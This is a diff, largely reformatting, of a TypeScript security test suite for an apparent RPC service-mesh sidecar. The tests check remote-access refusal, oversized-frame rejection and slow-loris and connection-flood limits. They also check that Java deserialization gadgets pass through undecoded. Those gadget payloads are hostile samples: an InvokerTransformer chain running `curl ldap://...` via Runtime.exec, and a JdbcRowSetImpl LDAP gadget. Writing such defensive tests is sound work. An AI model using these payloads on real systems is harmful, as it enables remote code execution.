@@ -21,7 +21,15 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { BoltStatus, DubboStatus, decodeFrame } from '@meshport/protocol';
 import { MemoryRouteTable } from '@meshport/router';
 import { CaptureListener } from '@meshport/sidecar';
-import { createNetns, createVethPair, deleteNetns, execInNetns, installedState, spawnInNetns, uniqueNetnsName } from '@meshport/hijack';
+import {
+  createNetns,
+  createVethPair,
+  deleteNetns,
+  execInNetns,
+  installedState,
+  spawnInNetns,
+  uniqueNetnsName,
+} from '@meshport/hijack';
 import {
   boltRequest,
   dubboRequest,
@@ -87,7 +95,10 @@ function invokerTransformerGadget(): unknown {
     $class: 'org.apache.commons.collections.functors.ChainedTransformer',
     $: {
       iTransformers: [
-        { $class: 'org.apache.commons.collections.functors.ConstantTransformer', $: { iConstant: 'java.lang.Runtime' } },
+        {
+          $class: 'org.apache.commons.collections.functors.ConstantTransformer',
+          $: { iConstant: 'java.lang.Runtime' },
+        },
         invoker('getMethod', ['java.lang.String', '[Ljava.lang.Class;'], ['getRuntime', []]),
         invoker('exec', ['java.lang.String'], [`curl ldap://${GADGET_LDAP}/cc`]),
       ],
@@ -187,19 +198,28 @@ const targets = JSON.parse(process.argv[2]);
     let nsB = '';
     let dir = '';
 
-    before(async function () {
+    before(async () => {
       if (kernelProblem() !== undefined) return;
       nsA = uniqueNetnsName('mpsec');
       nsB = uniqueNetnsName('mpsec');
       namespaces.push(nsA, nsB);
       await createNetns(nsA);
       await createNetns(nsB);
-      await createVethPair({ netnsA: nsA, netnsB: nsB, deviceA: 'mps0', deviceB: 'mps1', addressA: `${SIDE_A}/24`, addressB: `${SIDE_B}/24` });
+      await createVethPair({
+        netnsA: nsA,
+        netnsB: nsB,
+        deviceA: 'mps0',
+        deviceB: 'mps1',
+        addressA: `${SIDE_A}/24`,
+        addressB: `${SIDE_B}/24`,
+      });
       dir = tempDir();
       writeFileSync(path.join(dir, 'client.js'), CLIENT);
       writeFileSync(
         path.join(dir, 'registry.json'),
-        JSON.stringify({ services: { 'com.example.Echo:1.0': ['bolt://127.0.0.1:12300?interface=com.example.Echo&version=1.0'] } }),
+        JSON.stringify({
+          services: { 'com.example.Echo:1.0': ['bolt://127.0.0.1:12300?interface=com.example.Echo&version=1.0'] },
+        }),
       );
     });
 
@@ -207,7 +227,10 @@ const targets = JSON.parse(process.argv[2]);
     async function sidecarInA(name: string, yaml: string): Promise<JsonLinesChild> {
       const file = path.join(dir, `${name}.yaml`);
       writeFileSync(file, yaml);
-      const proc = new JsonLinesChild(`sidecar ${name}`, spawnInNetns(nsA, process.execPath, [BIN, 'sidecar', '--config', file]));
+      const proc = new JsonLinesChild(
+        `sidecar ${name}`,
+        spawnInNetns(nsA, process.execPath, [BIN, 'sidecar', '--config', file]),
+      );
       children.push(proc);
       await proc.waitFor((m) => m.msg === 'meshport sidecar running', 'the sidecar to run');
       return proc;
@@ -218,13 +241,25 @@ const targets = JSON.parse(process.argv[2]);
         path.join(dir, 'client.js'),
         JSON.stringify(targets.map((t) => ({ ...t, payload: t.payload.toString('hex') }))),
       ]);
-      const results = (JSON.parse(r.stdout.trim().split('\n').pop()!) as { results: { name: string; connected: boolean; bytes: number; closed: boolean; error?: string }[] }).results;
+      const results = (
+        JSON.parse(r.stdout.trim().split('\n').pop()!) as {
+          results: { name: string; connected: boolean; bytes: number; closed: boolean; error?: string }[];
+        }
+      ).results;
       return Object.fromEntries(results.map((x) => [x.name, x]));
     }
 
     const bolt = boltRequest(7, 'com.example.Echo:1.0', Buffer.from('hello'));
     // A ZooKeeper ConnectRequest: length, protocolVersion, lastZxidSeen, timeOut, sessionId, password (16 bytes).
-    const zkConnect = Buffer.concat([Buffer.from([0, 0, 0, 44]), Buffer.alloc(4), Buffer.alloc(8), Buffer.from([0, 0, 0x75, 0x30]), Buffer.alloc(8), Buffer.from([0, 0, 0, 16]), Buffer.alloc(16)]);
+    const zkConnect = Buffer.concat([
+      Buffer.from([0, 0, 0, 44]),
+      Buffer.alloc(4),
+      Buffer.alloc(8),
+      Buffer.from([0, 0, 0x75, 0x30]),
+      Buffer.alloc(8),
+      Buffer.from([0, 0, 0, 16]),
+      Buffer.alloc(16),
+    ]);
     const httpGet = Buffer.from('GET /configs/application HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
 
     it('listeners and facades bound to 0.0.0.0 refuse other hosts unless allowRemote names them; loopback is always served', async function () {
@@ -261,20 +296,41 @@ const targets = JSON.parse(process.argv[2]);
       await sleep(200); // the refusal log lines
       await sidecar.kill();
 
-      const refused = (r: { connected: boolean; bytes: number; closed: boolean }) => r.connected && r.bytes === 0 && r.closed;
-      for (const name of ['outbound-1', 'outbound-2', 'outbound-3', 'zk-facade']) assert.ok(refused(remote[name]), `${name}: ${JSON.stringify(remote[name])}`);
-      assert.ok(remote['mesh-facade'].bytes > 0, `mesh facade allows ${SIDE_B}: ${JSON.stringify(remote['mesh-facade'])}`);
-      assert.ok(remote.inbound.bytes > 0, `the inbound listener takes other pods by default: ${JSON.stringify(remote.inbound)}`);
-      assert.ok(!remote.admin.connected && remote.admin.error === 'ECONNREFUSED', `admin is loopback only: ${JSON.stringify(remote.admin)}`);
+      const refused = (r: { connected: boolean; bytes: number; closed: boolean }) =>
+        r.connected && r.bytes === 0 && r.closed;
+      for (const name of ['outbound-1', 'outbound-2', 'outbound-3', 'zk-facade'])
+        assert.ok(refused(remote[name]), `${name}: ${JSON.stringify(remote[name])}`);
+      assert.ok(
+        remote['mesh-facade'].bytes > 0,
+        `mesh facade allows ${SIDE_B}: ${JSON.stringify(remote['mesh-facade'])}`,
+      );
+      assert.ok(
+        remote.inbound.bytes > 0,
+        `the inbound listener takes other pods by default: ${JSON.stringify(remote.inbound)}`,
+      );
+      assert.ok(
+        !remote.admin.connected && remote.admin.error === 'ECONNREFUSED',
+        `admin is loopback only: ${JSON.stringify(remote.admin)}`,
+      );
       assert.ok(local.outbound.bytes > 0, 'a loopback caller in the pod is served');
-      assert.ok(local['outbound-pod-ip'].bytes > 0, `a caller in the pod dialling the pod IP is served: ${JSON.stringify(local['outbound-pod-ip'])}`);
-      const refusals = sidecar.lines.filter((m) => /refused a connection from a non-loopback address/.test(m.msg ?? ''));
+      assert.ok(
+        local['outbound-pod-ip'].bytes > 0,
+        `a caller in the pod dialling the pod IP is served: ${JSON.stringify(local['outbound-pod-ip'])}`,
+      );
+      const refusals = sidecar.lines.filter((m) =>
+        /refused a connection from a non-loopback address/.test(m.msg ?? ''),
+      );
       const outboundLogs = refusals.filter((m) => m.server === 'outbound listener' && m.remote === SIDE_B);
       assert.equal(outboundLogs.length, 1, `logged once per address: ${JSON.stringify(refusals)}`);
       assert.equal(refusals.filter((m) => m.server === 'zookeeper facade').length, 1);
       figures.push(
         { name: 'remote connections refused (outbound x3, zk facade)', value: 4, goal: '4 of 4', met: true },
-        { name: 'remote connections allowed (mesh facade by CIDR, inbound by default)', value: 2, goal: '2 of 2', met: true },
+        {
+          name: 'remote connections allowed (mesh facade by CIDR, inbound by default)',
+          value: 2,
+          goal: '2 of 2',
+          met: true,
+        },
         { name: 'admin reachable from another host', value: 0, goal: '0', met: true },
         { name: 'refusal log lines for 3 attempts from one address', value: outboundLogs.length, goal: '1', met: true },
       );
@@ -316,7 +372,11 @@ const targets = JSON.parse(process.argv[2]);
     // Also covered in depth by packages/cli/test/hijack.test.ts and packages/hijack/test/hijack.test.ts; listed here
     // so the security suite names every defence.
     it('`meshport hijack` refuses rules that capture its own capture port (exit 2, MESHPORT_HIJACK_LOOP, nothing installed)', async function () {
-      const printed = spawnSync(process.execPath, [BIN, 'hijack', 'print', '--mode', 'redirect', '--inbound-ports', '80,15006'], { encoding: 'utf8' });
+      const printed = spawnSync(
+        process.execPath,
+        [BIN, 'hijack', 'print', '--mode', 'redirect', '--inbound-ports', '80,15006'],
+        { encoding: 'utf8' },
+      );
       assert.equal(printed.status, 2, printed.stderr);
       assert.match(printed.stderr, /MESHPORT_HIJACK_LOOP: .*15006/);
       let applied = 'not run (needs root)';
@@ -324,7 +384,11 @@ const targets = JSON.parse(process.argv[2]);
         const ns = uniqueNetnsName('mpsec');
         namespaces.push(ns);
         await createNetns(ns);
-        const r = spawnSync(process.execPath, [BIN, 'hijack', 'apply', '--mode', 'redirect', '--inbound-ports', '80,15006', '--netns', ns], { encoding: 'utf8' });
+        const r = spawnSync(
+          process.execPath,
+          [BIN, 'hijack', 'apply', '--mode', 'redirect', '--inbound-ports', '80,15006', '--netns', ns],
+          { encoding: 'utf8' },
+        );
         assert.equal(r.status, 2, r.stderr);
         assert.match(r.stderr, /MESHPORT_HIJACK_LOOP/);
         assert.deepEqual((await installedState({ netns: ns })).iptables, { nat: [], mangle: [] });
@@ -334,7 +398,7 @@ const targets = JSON.parse(process.argv[2]);
       figures.push({ name: 'hijack apply of a self-capturing plan', value: applied, goal: 'exit 2', met: true });
     });
 
-    it('a capture listener refuses a connection whose original destination is itself', async function () {
+    it('a capture listener refuses a connection whose original destination is itself', async () => {
       let adopted = 0;
       let me = { host: '127.0.0.1', port: 0 };
       const capture = new CaptureListener({
@@ -404,12 +468,15 @@ const provider = Number(process.argv[2]);
 })();
 `;
 
-    it('pass through two routers byte for byte (only the request id differs), both ways, and are never deserialized', async function () {
+    it('pass through two routers byte for byte (only the request id differs), both ways, and are never deserialized', async () => {
       const dir = tempDir();
       const audit = path.join(dir, 'audit.log');
       writeFileSync(audit, '');
       writeFileSync(path.join(dir, 'preload.js'), PRELOAD);
-      writeFileSync(path.join(dir, 'routers.js'), ROUTERS(require.resolve('@meshport/router'), require.resolve('pino')));
+      writeFileSync(
+        path.join(dir, 'routers.js'),
+        ROUTERS(require.resolve('@meshport/router'), require.resolve('pino')),
+      );
       const provider = await startEchoProvider(0);
       providers.push(provider);
       provider.keepFrames = true;
@@ -440,11 +507,15 @@ const provider = Number(process.argv[2]);
       };
       const proc = new JsonLinesChild(
         'routers',
-        spawn(process.execPath, ['--require', path.join(dir, 'preload.js'), path.join(dir, 'routers.js'), String(provider.port)], {
-          stdio: ['ignore', 'pipe', 'pipe', 'ipc'],
-          env: { ...process.env, MESHPORT_AUDIT_LOG: audit },
-          cwd: path.resolve(__dirname, '../..'),
-        }),
+        spawn(
+          process.execPath,
+          ['--require', path.join(dir, 'preload.js'), path.join(dir, 'routers.js'), String(provider.port)],
+          {
+            stdio: ['ignore', 'pipe', 'pipe', 'ipc'],
+            env: { ...process.env, MESHPORT_AUDIT_LOG: audit },
+            cwd: path.resolve(__dirname, '../..'),
+          },
+        ),
       );
       children.push(proc);
       const { outbound } = await proc.waitFor((m) => typeof m.outbound === 'number', 'the routers');
@@ -469,21 +540,39 @@ const provider = Number(process.argv[2]);
         changed += differingBytes(withoutId(sentResponses[i]), withoutId(answers[i].frame));
       }
       assert.equal(changed, 0, 'gadget bytes changed on the way');
-      assert.ok(requests[0].includes(Buffer.from('com.sun.rowset.JdbcRowSetImpl')), 'the Bolt request carries the JdbcRowSetImpl gadget');
-      assert.ok(requests[1].includes(Buffer.from('InvokerTransformer')), 'the Dubbo request carries the InvokerTransformer chain');
+      assert.ok(
+        requests[0].includes(Buffer.from('com.sun.rowset.JdbcRowSetImpl')),
+        'the Bolt request carries the JdbcRowSetImpl gadget',
+      );
+      assert.ok(
+        requests[1].includes(Buffer.from('InvokerTransformer')),
+        'the Dubbo request carries the InvokerTransformer chain',
+      );
       assert.equal(decodeFrame(answers[0].frame).status, BoltStatus.SUCCESS);
       assert.equal(decodeFrame(answers[1].frame).status, DubboStatus.OK);
-      const log = readFileSync(audit, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as { load?: string; connect?: { host?: string } });
+      const log = readFileSync(audit, 'utf8')
+        .trim()
+        .split('\n')
+        .filter(Boolean)
+        .map((l) => JSON.parse(l) as { load?: string; connect?: { host?: string } });
       const hessianLoads = [...log.filter((e) => e.load).map((e) => e.load!), ...loaded];
       const connects = log.filter((e) => e.connect).map((e) => e.connect!.host ?? '');
       const gadgetDials = connects.filter((h) => h === GADGET_LDAP).length;
       assert.deepEqual(hessianLoads, [], 'the router process loaded no hessian library');
       assert.ok(!connects.includes(GADGET_LDAP), `never dialled the gadget's address: ${connects.join(', ')}`);
-      assert.ok(connects.every((h) => h === '127.0.0.1'), `only loopback connects: ${connects.join(', ')}`);
+      assert.ok(
+        connects.every((h) => h === '127.0.0.1'),
+        `only loopback connects: ${connects.join(', ')}`,
+      );
       figures.push(
         { name: 'gadget bytes changed (2 requests, 2 responses)', value: changed, goal: '0', met: true },
         { name: 'hessian modules loaded by the router process', value: hessianLoads.length, goal: '0', met: true },
-        { name: `connections attempted to ${GADGET_LDAP} (the gadget's LDAP host)`, value: gadgetDials, goal: '0', met: true },
+        {
+          name: `connections attempted to ${GADGET_LDAP} (the gadget's LDAP host)`,
+          value: gadgetDials,
+          goal: '0',
+          met: true,
+        },
       );
       notes.push(
         'Gadgets: a Bolt SofaRequest whose argument is a `com.sun.rowset.JdbcRowSetImpl` with dataSourceName `ldap://198.18.0.9/x`, a Dubbo call whose argument is a commons-collections ChainedTransformer of InvokerTransformers, and a JdbcRowSetImpl response; built with hessian.js in the test, sent through two @meshport/router instances (consumer outbound -> provider inbound) in a child process whose preload logs every module loaded and every connect().',
@@ -523,7 +612,7 @@ Module._load = function (request) {
 };
 `;
 
-    it('pass the real sidecar byte for byte, and no hessian decoder runs in its process', async function () {
+    it('pass the real sidecar byte for byte, and no hessian decoder runs in its process', async () => {
       const dir = tempDir();
       const audit = path.join(dir, 'audit.log');
       writeFileSync(audit, '');
@@ -534,7 +623,9 @@ Module._load = function (request) {
       const sidecar = await startSidecarChild(
         {
           'com.example.Echo:1.0': [`bolt://127.0.0.1:${provider.port}?interface=com.example.Echo&version=1.0`],
-          'com.example.Greet:1.0': [`dubbo://127.0.0.1:${provider.port}/com.example.Greet?interface=com.example.Greet&version=1.0`],
+          'com.example.Greet:1.0': [
+            `dubbo://127.0.0.1:${provider.port}/com.example.Greet?interface=com.example.Greet&version=1.0`,
+          ],
         },
         '',
         { nodeArgs: ['--require', path.join(dir, 'preload.js')], env: { ...process.env, MESHPORT_AUDIT_LOG: audit } },
@@ -552,18 +643,40 @@ Module._load = function (request) {
       for (let i = 0; i < 2; i++) {
         changed += differingBytes(withoutId(requests[i]), withoutId(provider.frames[i]));
         // The provider echoes the request body back: the answer's body must be those bytes exactly.
-        changed += differingBytes(withoutId(answers[i].frame), withoutId(Buffer.from(provider.frames[i].length ? echoOf(provider.frames[i]) : Buffer.alloc(0))));
+        changed += differingBytes(
+          withoutId(answers[i].frame),
+          withoutId(Buffer.from(provider.frames[i].length ? echoOf(provider.frames[i]) : Buffer.alloc(0))),
+        );
       }
-      const log = readFileSync(audit, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as { load?: string; decode?: string });
+      const log = readFileSync(audit, 'utf8')
+        .trim()
+        .split('\n')
+        .filter(Boolean)
+        .map((l) => JSON.parse(l) as { load?: string; decode?: string });
       const decodes = log.filter((e) => e.decode).map((e) => e.decode!);
       const loads = log.filter((e) => e.load).map((e) => e.load!);
       assert.equal(changed, 0, 'gadget bytes changed through meshport sidecar');
       assert.deepEqual(loads, [], 'the sidecar process loaded no hessian library');
       assert.deepEqual(decodes, [], 'no hessian decoder ran in the sidecar process');
       figures.push(
-        { name: 'gadget bytes changed through `meshport sidecar` (2 calls, both ways)', value: changed, goal: '0', met: true },
-        { name: 'hessian libraries loaded by the `meshport sidecar` process', value: loads.length, goal: '0', met: true },
-        { name: 'hessian decoder calls in the `meshport sidecar` process', value: decodes.length, goal: '0', met: true },
+        {
+          name: 'gadget bytes changed through `meshport sidecar` (2 calls, both ways)',
+          value: changed,
+          goal: '0',
+          met: true,
+        },
+        {
+          name: 'hessian libraries loaded by the `meshport sidecar` process',
+          value: loads.length,
+          goal: '0',
+          met: true,
+        },
+        {
+          name: 'hessian decoder calls in the `meshport sidecar` process',
+          value: decodes.length,
+          goal: '0',
+          met: true,
+        },
       );
       notes.push(
         '`meshport sidecar`: a preload logs every load of hessian.js / hessian.js-1 in the sidecar process and wraps every Decoder read* method; neither a load nor a call may happen (the CLI imports `decode` and `tap`, the only users of hessian.js, on demand).',
@@ -606,7 +719,7 @@ Module._load = function (request) {
       return { status: data.length > 0 ? decodeFrame(data).status : undefined, closedMs };
     }
 
-    it('a Bolt and a Dubbo header claiming 2 GiB (or just over the cap) get an error and a closed connection at once, costing no memory', async function () {
+    it('a Bolt and a Dubbo header claiming 2 GiB (or just over the cap) get an error and a closed connection at once, costing no memory', async () => {
       const provider = await startEchoProvider(0);
       providers.push(provider);
       const sidecar = await startSidecarChild(
@@ -617,20 +730,42 @@ Module._load = function (request) {
       );
       sidecars.push(sidecar);
       const good = await RpcClient.connect(sidecar.ports.outbound);
-      assert.equal((await good.call(1, boltRequest(1, 'com.example.Echo:1.0', Buffer.from('before')))).header.status, BoltStatus.SUCCESS);
+      assert.equal(
+        (await good.call(1, boltRequest(1, 'com.example.Echo:1.0', Buffer.from('before')))).header.status,
+        BoltStatus.SUCCESS,
+      );
       for (let i = 0; i < 3; i++) await lie(sidecar.ports.outbound, boltClaiming(50 + i, 1000)); // warm-up: code paths loaded
       const before = memoryOf(sidecar.pid);
       const results = [];
       const rounds = scale(10, 50);
       for (let i = 0; i < rounds; i++) {
-        results.push({ what: 'bolt 2 GiB', ...(await lie(sidecar.ports.outbound, boltClaiming(100 + i, TWO_GIB))), expect: BoltStatus.CODEC_EXCEPTION });
-        results.push({ what: 'dubbo 2 GiB', ...(await lie(sidecar.ports.outbound, dubboClaiming(200 + i, TWO_GIB))), expect: DubboStatus.BAD_REQUEST });
+        results.push({
+          what: 'bolt 2 GiB',
+          ...(await lie(sidecar.ports.outbound, boltClaiming(100 + i, TWO_GIB))),
+          expect: BoltStatus.CODEC_EXCEPTION,
+        });
+        results.push({
+          what: 'dubbo 2 GiB',
+          ...(await lie(sidecar.ports.outbound, dubboClaiming(200 + i, TWO_GIB))),
+          expect: DubboStatus.BAD_REQUEST,
+        });
       }
-      results.push({ what: 'bolt cap + 1', ...(await lie(sidecar.ports.outbound, boltClaiming(300, MAX_FRAME + 1))), expect: BoltStatus.CODEC_EXCEPTION });
-      results.push({ what: 'dubbo cap + 1', ...(await lie(sidecar.ports.outbound, dubboClaiming(301, MAX_FRAME + 1 - 16))), expect: DubboStatus.BAD_REQUEST });
+      results.push({
+        what: 'bolt cap + 1',
+        ...(await lie(sidecar.ports.outbound, boltClaiming(300, MAX_FRAME + 1))),
+        expect: BoltStatus.CODEC_EXCEPTION,
+      });
+      results.push({
+        what: 'dubbo cap + 1',
+        ...(await lie(sidecar.ports.outbound, dubboClaiming(301, MAX_FRAME + 1 - 16))),
+        expect: DubboStatus.BAD_REQUEST,
+      });
       const afterMem = memoryOf(sidecar.pid);
       // Other connections are unaffected: the one opened before still works.
-      assert.equal((await good.call(2, boltRequest(2, 'com.example.Echo:1.0', Buffer.from('after')))).header.status, BoltStatus.SUCCESS);
+      assert.equal(
+        (await good.call(2, boltRequest(2, 'com.example.Echo:1.0', Buffer.from('after')))).header.status,
+        BoltStatus.SUCCESS,
+      );
       good.close();
       const stats = await sidecar.stats();
       for (const r of results) {
@@ -641,12 +776,29 @@ Module._load = function (request) {
       }
       const growthKb = afterMem.rssKb - before.rssKb;
       assert.ok(growthKb < 16 * 1024, `RSS grew ${growthKb} KB over ${results.length} lying headers`);
-      assert.ok(counterValue(stats, 'meshport_bad_frames_total', { code: 'MESHPORT_FRAME_OVERSIZE' }) >= results.length);
+      assert.ok(
+        counterValue(stats, 'meshport_bad_frames_total', { code: 'MESHPORT_FRAME_OVERSIZE' }) >= results.length,
+      );
       const worst = Math.max(...results.map((r) => r.closedMs));
       figures.push(
-        { name: 'lying headers refused (2 GiB and cap+1, Bolt and Dubbo)', value: `${results.length}/${results.length}`, goal: 'all', met: true },
-        { name: 'slowest close after a lying header (ms)', value: Math.round(worst), goal: '< 5000 (frameTimeoutMs 10000)', met: true },
-        { name: `RSS growth after ${2 * rounds} headers claiming 2 GiB (KB)`, value: growthKb, goal: '< 16384', met: true },
+        {
+          name: 'lying headers refused (2 GiB and cap+1, Bolt and Dubbo)',
+          value: `${results.length}/${results.length}`,
+          goal: 'all',
+          met: true,
+        },
+        {
+          name: 'slowest close after a lying header (ms)',
+          value: Math.round(worst),
+          goal: '< 5000 (frameTimeoutMs 10000)',
+          met: true,
+        },
+        {
+          name: `RSS growth after ${2 * rounds} headers claiming 2 GiB (KB)`,
+          value: growthKb,
+          goal: '< 16384',
+          met: true,
+        },
       );
     });
   });
@@ -656,7 +808,7 @@ Module._load = function (request) {
     const MAX_PARTIAL = 32;
     const ATTACKERS = scale(200, 1000);
 
-    it('a caller trickling headers on many connections holds at most the cap, each for at most the frame timeout; a good caller keeps its latency', async function () {
+    it('a caller trickling headers on many connections holds at most the cap, each for at most the frame timeout; a good caller keeps its latency', async () => {
       const provider = await startEchoProvider(0);
       providers.push(provider);
       const sidecar = await startSidecarChild(
@@ -700,7 +852,8 @@ Module._load = function (request) {
       }
       const trickle = setInterval(() => {
         for (const s of slow) {
-          if (s.closedAt === undefined && s.socket.writable && s.sent < header.length) s.socket.write(header.subarray(s.sent, ++s.sent));
+          if (s.closedAt === undefined && s.socket.writable && s.sent < header.length)
+            s.socket.write(header.subarray(s.sent, ++s.sent));
         }
       }, 1000);
       let maxPartial = 0;
@@ -728,20 +881,41 @@ Module._load = function (request) {
         assert.equal(baseline.failures + underAttack.failures, 0, 'every good call succeeds');
         assert.ok(maxPartial <= MAX_PARTIAL, `at most ${MAX_PARTIAL} unfinished frames held, saw ${maxPartial}`);
         assert.equal(stillOpen, 0, `every slow connection closed (${stillOpen} open)`);
-        assert.ok(Math.max(...held) < 1000 + FRAME_TIMEOUT_MS + 1500, `longest held ${Math.max(...held).toFixed(0)} ms`);
+        assert.ok(
+          Math.max(...held) < 1000 + FRAME_TIMEOUT_MS + 1500,
+          `longest held ${Math.max(...held).toFixed(0)} ms`,
+        );
         assert.equal(timedOut + evicted, ATTACKERS, `closed by timeout ${timedOut} + cap ${evicted}`);
         // Keeping its latency, as behaviour: no good call waited for the attackers to be swept out (a frame timeout). How
         // close its p99 stays to the baseline is a figure for docs/reliability.md: on a shared 2-core machine a p99
         // bound in milliseconds fails on the neighbours' noise, or passes because it had to be loose.
-        assert.ok(attackMax < FRAME_TIMEOUT_MS, `a good call under attack took ${attackMax.toFixed(0)} ms, as long as the frame timeout (baseline p99 ${baselineP99.toFixed(2)} ms)`);
+        assert.ok(
+          attackMax < FRAME_TIMEOUT_MS,
+          `a good call under attack took ${attackMax.toFixed(0)} ms, as long as the frame timeout (baseline p99 ${baselineP99.toFixed(2)} ms)`,
+        );
         figures.push(
           { name: 'slow-loris connections opened', value: ATTACKERS },
-          { name: 'unfinished frames held at once (max)', value: maxPartial, goal: `<= ${MAX_PARTIAL} (router.maxPartialFrames)`, met: true },
+          {
+            name: 'unfinished frames held at once (max)',
+            value: maxPartial,
+            goal: `<= ${MAX_PARTIAL} (router.maxPartialFrames)`,
+            met: true,
+          },
           { name: 'slow connections closed by the cap / by the frame timeout', value: `${evicted} / ${timedOut}` },
-          { name: 'longest a slow connection was held (ms)', value: Math.round(Math.max(...held)), goal: `<= frameTimeoutMs ${FRAME_TIMEOUT_MS} + sweep`, met: true },
+          {
+            name: 'longest a slow connection was held (ms)',
+            value: Math.round(Math.max(...held)),
+            goal: `<= frameTimeoutMs ${FRAME_TIMEOUT_MS} + sweep`,
+            met: true,
+          },
           { name: 'good-client p99, baseline (ms)', value: Math.round(baselineP99 * 100) / 100 },
           { name: 'good-client p99 under attack (ms)', value: Math.round(attackP99 * 100) / 100 },
-          { name: 'good-client slowest call under attack (ms)', value: Math.round(attackMax * 100) / 100, goal: `< frameTimeoutMs ${FRAME_TIMEOUT_MS}`, met: true },
+          {
+            name: 'good-client slowest call under attack (ms)',
+            value: Math.round(attackMax * 100) / 100,
+            goal: `< frameTimeoutMs ${FRAME_TIMEOUT_MS}`,
+            met: true,
+          },
           { name: 'good calls failed under attack', value: underAttack.failures, goal: '0', met: true },
         );
         notes.push(
@@ -755,7 +929,7 @@ Module._load = function (request) {
       }
     });
 
-    it('a host opening connections that send nothing holds at most maxConnectionsPerSource; another host connects and calls as before', async function () {
+    it('a host opening connections that send nothing holds at most maxConnectionsPerSource; another host connects and calls as before', async () => {
       const PER_SOURCE = 64;
       const IDLE = scale(400, 4000);
       const provider = await startEchoProvider(0);
@@ -779,12 +953,17 @@ Module._load = function (request) {
         await sleep(1500);
         const open = idle.filter((e) => !e.closed).length;
         const bytes = idle.reduce((n, e) => n + e.bytes, 0);
-        const refused = counterValue(await sidecar.stats(), 'meshport_connections_refused_total', { reason: 'per-source-cap' });
+        const refused = counterValue(await sidecar.stats(), 'meshport_connections_refused_total', {
+          reason: 'per-source-cap',
+        });
 
         // Another host (127.0.0.2) connects and calls while the flood holds its share.
         const other = await RpcClient.connect(sidecar.ports.outbound, '127.0.0.1', '127.0.0.2');
         const answers: number[] = [];
-        for (let i = 1; i <= 50; i++) answers.push((await other.call(i, boltRequest(i, 'com.example.Echo:1.0', Buffer.from('hi')))).header.status ?? -1);
+        for (let i = 1; i <= 50; i++)
+          answers.push(
+            (await other.call(i, boltRequest(i, 'com.example.Echo:1.0', Buffer.from('hi')))).header.status ?? -1,
+          );
         other.close();
 
         assert.equal(open, PER_SOURCE, `connections from the flooding host still open: ${open}`);
@@ -794,8 +973,18 @@ Module._load = function (request) {
         figures.push(
           { name: 'idle connections opened by one host', value: IDLE },
           { name: 'held open for it', value: open, goal: `${PER_SOURCE} (router.maxConnectionsPerSource)`, met: true },
-          { name: 'closed at accept (meshport_connections_refused_total)', value: refused, goal: `${IDLE - PER_SOURCE}`, met: true },
-          { name: 'calls from another host during the flood, ok', value: `${answers.length}/50`, goal: 'all', met: true },
+          {
+            name: 'closed at accept (meshport_connections_refused_total)',
+            value: refused,
+            goal: `${IDLE - PER_SOURCE}`,
+            met: true,
+          },
+          {
+            name: 'calls from another host during the flood, ok',
+            value: `${answers.length}/50`,
+            goal: 'all',
+            met: true,
+          },
         );
         notes.push(
           `Idle flood: ${IDLE} connections from 127.0.0.1 that send nothing, against router.maxConnectionsPerSource ${PER_SOURCE}; a second loopback host (127.0.0.2) then makes 50 calls.`,
